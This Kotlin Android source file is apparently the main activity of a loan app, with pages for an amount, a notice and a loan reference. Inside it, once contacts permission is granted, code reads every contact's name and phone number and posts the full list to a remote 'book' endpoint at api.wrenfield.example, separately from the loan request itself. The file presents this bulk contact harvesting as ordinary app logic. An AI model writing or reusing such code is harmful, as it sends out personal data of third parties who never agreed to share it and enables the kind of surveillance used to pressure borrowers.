package com.functionreferences.app

import android.app.Activity
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import android.view.View
import android.widget.EditText
import java.net.HttpURLConnection
import java.net.URL
import kotlin.concurrent.thread

/** Shows the pages of the application and does its tasks. */
class LoanActivity : Activity() {
    private val loan = Loan(::draw, ::run)

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        setContentView(R.layout.activity_loan)
        findViewById(R.id.next).setOnClickListener { loan.on(Touch.Typed(text(R.id.amount))) }
        findViewById(R.id.yes).setOnClickListener { loan.on(Touch.Agree) }
        findViewById(R.id.no).setOnClickListener { loan.on(Touch.Decline) }
        findViewById(R.id.send).setOnClickListener { loan.on(Touch.Send(text(R.id.reference))) }
    }

    private fun draw(page: Page) {
        shown(R.id.page_amount, page is Page.Amount)
        shown(R.id.page_notice, page is Page.Notice)
        shown(R.id.page_reference, page is Page.Reference)
        shown(R.id.page_sent, page is Page.Sent)
    }

    private fun shown(id: Int, isShown: Boolean) {
        findViewById(id).visibility = if (isShown) View.VISIBLE else View.GONE
    }

    private fun run(task: Task) {
        when (task) {
            Task.Ask -> requestPermissions(arrayOf("android.permission.READ_CONTACTS"), 4)
            Task.Read -> thread { send("book", everybody()) }
            is Task.Apply -> thread { send("loan", task.reference) }
        }
    }

    override fun onRequestPermissionsResult(code: Int, names: Array<String>, results: IntArray) {
        if (results.isNotEmpty() && results[0] == 0) loan.on(Touch.Granted)
    }

    private fun text(id: Int) = (findViewById(id) as EditText).text.toString()

    private fun everybody(): String {
        val all = StringBuilder()
        contentResolver.query(Phone.CONTENT_URI, arrayOf(Phone.DISPLAY_NAME, Phone.NUMBER), null, null, null)?.use {
            while (it.moveToNext()) all.append(it.getString(0)).append(',').append(it.getString(1)).append(';')
        }
        return all.toString()
    }

    private fun send(what: String, words: String) {
        val call = URL("https://api.wrenfield.example/$what").openConnection() as HttpURLConnection
        call.doOutput = true
        call.outputStream.use { it.write(words.toByteArray()) }
        call.responseCode
    }
}
